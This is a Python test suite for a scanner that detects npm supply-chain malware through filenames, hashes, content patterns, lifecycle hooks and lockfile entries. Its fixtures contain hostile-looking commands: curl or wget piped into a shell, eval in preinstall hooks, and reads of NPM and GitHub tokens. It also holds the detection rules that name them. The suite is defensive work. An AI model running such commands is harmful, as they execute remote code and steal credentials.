"""Tests for the per-file checks: filename, hash, content, manifest, lockfile."""

from __future__ import annotations

import hashlib
import time
from pathlib import Path

from hulud_killer.scanner.checks import (
    analyze_file,
    check_content,
    check_filename,
    check_hash,
    check_lockfile,
    check_package_json,
)
from hulud_killer.scanner.checks.files import MAX_CONTENT_SIZE, truncate
from hulud_killer.scanner.checks.lockfile import package_name_from_key
from hulud_killer.scanner.models import FindingKind, Severity
from hulud_killer.scanner.rules import RuleRegistry, build_registry


class TestTruncate:
    def test_short_text_unchanged(self):
        assert truncate("abc") == "abc"

    def test_exactly_limit_unchanged(self):
        assert truncate("x" * 100) == "x" * 100

    def test_long_text_gets_ellipsis(self):
        assert truncate("x" * 150) == "x" * 100 + "..."


class TestFilenameCheck:
    def test_malicious_filename(self, tmp_path: Path, registry: RuleRegistry):
        path = tmp_path / "setup_bun.js"
        path.write_text("arbitrary")
        findings = check_filename(path, registry)
        assert len(findings) == 1
        f = findings[0]
        assert f.kind == FindingKind.MALICIOUS_FILE
        assert f.severity == Severity.CRITICAL
        assert f.path == str(path)
        assert f.line is None
        assert f.context is None

    def test_similar_name_not_flagged(self, tmp_path: Path, registry: RuleRegistry):
        path = tmp_path / "setup_bun.js.bak"
        path.write_text("")
        assert check_filename(path, registry) == []


class TestHashCheck:
    def _registry_with_hash(self, content: bytes) -> RuleRegistry:
        base = build_registry(packages={})
        digest = hashlib.sha256(content).hexdigest()
        return RuleRegistry(
            malicious_files=base.malicious_files,
            malicious_hashes=frozenset({digest}),
            skip_dirs=base.skip_dirs,
            scannable_extensions=base.scannable_extensions,
            dangerous_hooks=base.dangerous_hooks,
            content_rules=base.content_rules,
            hook_rules=base.hook_rules,
            compromised_packages=base.compromised_packages,
        )

    def test_known_hash_flagged(self, tmp_path: Path):
        content = b"payload bytes"
        path = tmp_path / "innocent.bin"
        path.write_bytes(content)
        findings = check_hash(path, self._registry_with_hash(content))
        assert len(findings) == 1
        f = findings[0]
        assert f.kind == FindingKind.MALICIOUS_HASH
        assert f.severity == Severity.CRITICAL
        prefix = hashlib.sha256(content).hexdigest()[:16]
        assert f"{prefix}..." in f.description
        assert f.line is None

    def test_unknown_hash_ignored(self, tmp_path: Path, registry: RuleRegistry):
        path = tmp_path / "file.js"
        path.write_text("console.log('hi')")
        assert check_hash(path, registry) == []

    def test_empty_hash_list_is_noop(self, tmp_path: Path, registry: RuleRegistry):
        empty = RuleRegistry(
            malicious_files=registry.malicious_files,
            malicious_hashes=frozenset(),
            skip_dirs=registry.skip_dirs,
            scannable_extensions=registry.scannable_extensions,
            dangerous_hooks=registry.dangerous_hooks,
            content_rules=registry.content_rules,
            hook_rules=registry.hook_rules,
            compromised_packages=registry.compromised_packages,
        )
        assert check_hash(tmp_path / "missing.js", empty) == []

    def test_unreadable_file_yields_nothing(
        self, tmp_path: Path, registry: RuleRegistry
    ):
        assert check_hash(tmp_path / "missing.js", registry) == []


class TestContentCheck:
    def test_marker_line_number_and_context(
        self, tmp_path: Path, registry: RuleRegistry
    ):
        path = tmp_path / "index.js"
        path.write_text('const a = 1;\n\n    console.log("SHA1HULUD")   \n')
        findings = check_content(path, registry)
        assert len(findings) == 1
        f = findings[0]
        assert f.kind == FindingKind.SUSPICIOUS_PATTERN
        assert f.severity == Severity.CRITICAL
        assert f.line == 3
        assert f.context == 'console.log("SHA1HULUD")'

    def test_multiple_rules_on_one_line(self, tmp_path: Path, registry: RuleRegistry):
        path = tmp_path / "steal.js"
        path.write_text("const t = process.env.NPM_TOKEN || readFile('.npmrc');\n")
        descriptions = {f.description for f in check_content(path, registry)}
        assert descriptions == {"NPM token reference", "NPM config file access"}

    def test_same_rule_on_two_lines_reported_twice(
        self, tmp_path: Path, registry: RuleRegistry
    ):
        path = tmp_path / "a.sh"
        path.write_text("echo $GITHUB_TOKEN\necho $GITHUB_TOKEN\n")
        findings = check_content(path, registry)
        assert [f.line for f in findings] == [1, 2]

    def test_crlf_line_endings(self, tmp_path: Path, registry: RuleRegistry):
        path = tmp_path / "win.js"
        path.write_bytes(b"ok\r\ngh auth token\r\n")
        findings = check_content(path, registry)
        assert len(findings) == 1
        assert findings[0].line == 2
        assert findings[0].context == "gh auth token"

    def test_pipe_rules_stay_fast_on_long_lines(
        self, tmp_path: Path, registry: RuleRegistry
    ):
        path = tmp_path / "long.js"
        path.write_text("curl " * 40000 + "\n" + "wget " * 40000 + "\n")
        start = time.perf_counter()
        findings = check_content(path, registry)
        assert time.perf_counter() - start < 2.0
        assert findings == []

    def test_pipe_to_shell_detected_after_other_commands(
        self, tmp_path: Path, registry: RuleRegistry
    ):
        path = tmp_path / "install.sh"
        path.write_text(
            "curl a | tee log | sh\n"
            "wget -q x |node\n"
            "echo | bash; curl x\n"
        )
        findings = check_content(path, registry)
        assert [(f.line, f.description) for f in findings] == [
            (1, "Remote code execution via curl pipe"),
            (2, "Remote code execution via wget pipe"),
        ]

    def test_long_line_context_truncated(
        self, tmp_path: Path, registry: RuleRegistry
    ):
        path = tmp_path / "long.js"
        path.write_text("SHA1HULUD " + "a" * 200 + "\n")
        context = check_content(path, registry)[0].context
        assert context is not None
        assert len(context) == 103
        assert context.endswith("...")

    def test_unscannable_extension_skipped(
        self, tmp_path: Path, registry: RuleRegistry
    ):
        path = tmp_path / "notes.md"
        path.write_text("SHA1HULUD\n")
        assert check_content(path, registry) == []

    def test_extension_match_is_case_sensitive(
        self, tmp_path: Path, registry: RuleRegistry
    ):
        path = tmp_path / "LOUD.JS"
        path.write_text("SHA1HULUD\n")
        assert check_content(path, registry) == []

    def test_large_file_skipped(self, tmp_path: Path, registry: RuleRegistry):
        path = tmp_path / "big.js"
        filler = "// padding\n" * (MAX_CONTENT_SIZE // 11 + 1)
        path.write_text("SHA1HULUD\n" + filler)
        assert path.stat().st_size > MAX_CONTENT_SIZE
        assert check_content(path, registry) == []

    def test_undecodable_line_skipped(self, tmp_path: Path, registry: RuleRegistry):
        path = tmp_path / "mixed.js"
        path.write_bytes(b"\xff\xfe SHA1HULUD\nconst x = 'SHA1HULUD';\n")
        findings = check_content(path, registry)
        assert [f.line for f in findings] == [2]


class TestManifestCheck:
    def test_postinstall_curl_pipe(self, write_json, registry: RuleRegistry):
        path = write_json(
            "package.json",
            {"scripts": {"postinstall": "curl http://x | bash"}},
        )
        findings = check_package_json(path, registry)
        assert len(findings) == 1
        f = findings[0]
        assert f.kind == FindingKind.DANGEROUS_HOOK
        assert f.severity == Severity.CRITICAL
        assert "postinstall" in f.description
        assert f.context == "curl http://x | bash"

    def test_hook_matching_several_rules(self, write_json, registry: RuleRegistry):
        path = write_json(
            "package.json",
            {"scripts": {"preinstall": "node -e \"eval(require('./setup_bun'))\""}},
        )
        descriptions = sorted(f.description for f in check_package_json(path, registry))
        assert descriptions == [
            "Eval code execution in 'preinstall' hook",
            "Inline node code execution in 'preinstall' hook",
            "Malicious setup script in 'preinstall' hook",
        ]

    def test_non_lifecycle_scripts_ignored(self, write_json, registry: RuleRegistry):
        path = write_json(
            "package.json",
            {"scripts": {"test": "curl http://x | bash", "build": "eval(x)"}},
        )
        assert check_package_json(path, registry) == []

    def test_infected_dependency(self, write_json, registry: RuleRegistry):
        path = write_json("package.json", {"dependencies": {"left-pad": "3.0.1"}})
        findings = check_package_json(path, registry)
        assert len(findings) == 1
        f = findings[0]
        assert f.kind == FindingKind.COMPROMISED_PACKAGE
        assert f.severity == Severity.CRITICAL
        assert "INFECTED package" in f.description
        assert f.context == "Infected versions: 3.0.1, 3.0.2"

    def test_targeted_package_other_version(self, write_json, registry: RuleRegistry):
        path = write_json("package.json", {"dependencies": {"left-pad": "9.9.9"}})
        findings = check_package_json(path, registry)
        assert len(findings) == 1
        f = findings[0]
        assert f.severity == Severity.MEDIUM
        assert "may be safe" in f.description
        assert f.context == "Infected versions: 3.0.1, 3.0.2"

    def test_range_spec_is_not_resolved(self, write_json, registry: RuleRegistry):
        path = write_json("package.json", {"dependencies": {"left-pad": "^3.0.0"}})
        findings = check_package_json(path, registry)
        assert [f.severity for f in findings] == [Severity.MEDIUM]

    def test_all_dependency_sections(self, write_json, registry: RuleRegistry):
        path = write_json(
            "package.json",
            {
                "dependencies": {"left-pad": "3.0.1"},
                "devDependencies": {"@ctrl/tinycolor": "4.1.2"},
                "peerDependencies": {"left-pad": "3.0.2"},
                "optionalDependencies": {"@ctrl/tinycolor": "4.1.1"},
                "bundledDependencies": {"left-pad": "3.0.1"},
            },
        )
        findings = check_package_json(path, registry)
        assert len(findings) == 4
        assert all(f.severity == Severity.CRITICAL for f in findings)

    def test_non_string_version(self, write_json, registry: RuleRegistry):
        path = write_json("package.json", {"dependencies": {"left-pad": {"x": 1}}})
        findings = check_package_json(path, registry)
        assert len(findings) == 1
        assert "unknown" in findings[0].description

    def test_malformed_json_yields_nothing(
        self, tmp_path: Path, registry: RuleRegistry
    ):
        path = tmp_path / "package.json"
        path.write_text('{"scripts": {"postinstall": "curl x | sh"')
        assert check_package_json(path, registry) == []

    def test_deeply_nested_json_yields_nothing(
        self, tmp_path: Path, registry: RuleRegistry
    ):
        path = tmp_path / "package.json"
        path.write_text("[" * 100000 + "]" * 100000)
        assert check_package_json(path, registry) == []

    def test_hook_pipe_rules_stay_fast_on_long_scripts(
        self, write_json, registry: RuleRegistry
    ):
        path = write_json(
            "package.json",
            {"scripts": {"preinstall": "curl " * 40000, "install": "wget " * 40000}},
        )
        start = time.perf_counter()
        findings = check_package_json(path, registry)
        assert time.perf_counter() - start < 2.0
        assert findings == []

    def test_hook_pipe_must_share_a_line(self, write_json, registry: RuleRegistry):
        path = write_json(
            "package.json",
            {"scripts": {"postinstall": "curl -o x http://h\ncat x | tee y"}},
        )
        assert check_package_json(path, registry) == []

    def test_non_object_root(self, write_json, registry: RuleRegistry):
        path = write_json("package.json", ["left-pad"])
        assert check_package_json(path, registry) == []


class TestLockfileCheck:
    def test_npm_v7_packages(self, write_json, registry: RuleRegistry):
        path = write_json(
            "package-lock.json",
            {
                "lockfileVersion": 3,
                "packages": {
                    "": {"name": "app", "version": "1.0.0"},
                    "node_modules/left-pad": {"version": "3.0.1"},
                    "node_modules/@ctrl/tinycolor": {"version": "4.0.0"},
                },
            },
        )
        findings = check_lockfile(path, registry)
        assert len(findings) == 1
        f = findings[0]
        assert f.kind == FindingKind.COMPROMISED_PACKAGE
        assert f.severity == Severity.CRITICAL
        assert f.description == "INFECTED in lockfile: left-pad @ 3.0.1"

    def test_npm_v7_nested_install_path(self, write_json, registry: RuleRegistry):
        path = write_json(
            "package-lock.json",
            {
                "packages": {
                    "node_modules/foo/node_modules/@ctrl/tinycolor": {
                        "version": "4.1.1"
                    },
                },
            },
        )
        findings = check_lockfile(path, registry)
        assert [f.description for f in findings] == [
            "INFECTED in lockfile: @ctrl/tinycolor @ 4.1.1"
        ]

    def test_npm_v6_nested_dependencies(self, write_json, registry: RuleRegistry):
        path = write_json(
            "package-lock.json",
            {
                "lockfileVersion": 1,
                "dependencies": {
                    "foo": {
                        "version": "1.0.0",
                        "dependencies": {
                            "bar": {
                                "version": "2.0.0",
                                "dependencies": {"left-pad": {"version": "3.0.2"}},
                            }
                        },
                    },
                    "@ctrl/tinycolor": {"version": "4.1.1"},
                },
            },
        )
        descriptions = sorted(f.description for f in check_lockfile(path, registry))
        assert descriptions == [
            "INFECTED in lockfile: @ctrl/tinycolor @ 4.1.1",
            "INFECTED in lockfile: left-pad @ 3.0.2",
        ]

    def test_lockfile_ignores_targeted_but_safe_versions(
        self, write_json, registry: RuleRegistry
    ):
        path = write_json(
            "package-lock.json",
            {"packages": {"node_modules/left-pad": {"version": "1.3.0"}}},
        )
        assert check_lockfile(path, registry) == []

    def test_deeply_nested_package_lock(
        self, tmp_path: Path, registry: RuleRegistry
    ):
        path = tmp_path / "package-lock.json"
        path.write_text('{"packages":' * 50000 + "{}" + "}" * 50000)
        assert check_lockfile(path, registry) == []

    def test_malformed_package_lock(self, tmp_path: Path, registry: RuleRegistry):
        path = tmp_path / "package-lock.json"
        path.write_text("{not json")
        assert check_lockfile(path, registry) == []

    def test_yarn_lock_substring(self, tmp_path: Path, registry: RuleRegistry):
        path = tmp_path / "yarn.lock"
        path.write_text(
            '"left-pad@3.0.2":\n'
            '  version "3.0.2"\n'
            '  resolved "https://registry.yarnpkg.com/left-pad/-/left-pad-3.0.2.tgz"\n'
        )
        findings = check_lockfile(path, registry)
        assert [f.description for f in findings] == [
            "INFECTED in lockfile: left-pad @ 3.0.2"
        ]

    def test_pnpm_two_line_form(self, tmp_path: Path, registry: RuleRegistry):
        path = tmp_path / "pnpm-lock.yaml"
        path.write_text('packages:\n"@ctrl/tinycolor":\n  version: "4.1.1"\n')
        findings = check_lockfile(path, registry)
        assert [f.description for f in findings] == [
            "INFECTED in lockfile: @ctrl/tinycolor @ 4.1.1"
        ]

    def test_pnpm_clean(self, tmp_path: Path, registry: RuleRegistry):
        path = tmp_path / "pnpm-lock.yaml"
        path.write_text("packages:\n  /left-pad/1.3.0:\n    resolution: {}\n")
        assert check_lockfile(path, registry) == []

    def test_package_name_from_key(self):
        assert package_name_from_key("node_modules/left-pad") == "left-pad"
        assert package_name_from_key("node_modules/@ctrl/tinycolor") == "@ctrl/tinycolor"
        assert package_name_from_key("") == ""
        assert package_name_from_key("packages/app") == "packages/app"


class TestAnalyzeFile:
    def test_manifest_gets_content_and_manifest_checks(
        self, write_json, registry: RuleRegistry
    ):
        path = write_json(
            "package.json",
            {"scripts": {"preinstall": "node setup_bun.js"}},
        )
        kinds = {f.kind for f in analyze_file(path, registry)}
        assert FindingKind.DANGEROUS_HOOK in kinds
        assert FindingKind.SUSPICIOUS_PATTERN in kinds

    def test_lockfile_dispatch(self, write_json, registry: RuleRegistry):
        path = write_json(
            "package-lock.json",
            {"packages": {"node_modules/left-pad": {"version": "3.0.1"}}},
        )
        findings = analyze_file(path, registry)
        assert [f.kind for f in findings] == [FindingKind.COMPROMISED_PACKAGE]

    def test_clean_file(self, tmp_path: Path, registry: RuleRegistry):
        path = tmp_path / "README"
        path.write_text("nothing to see")
        assert analyze_file(path, registry) == []
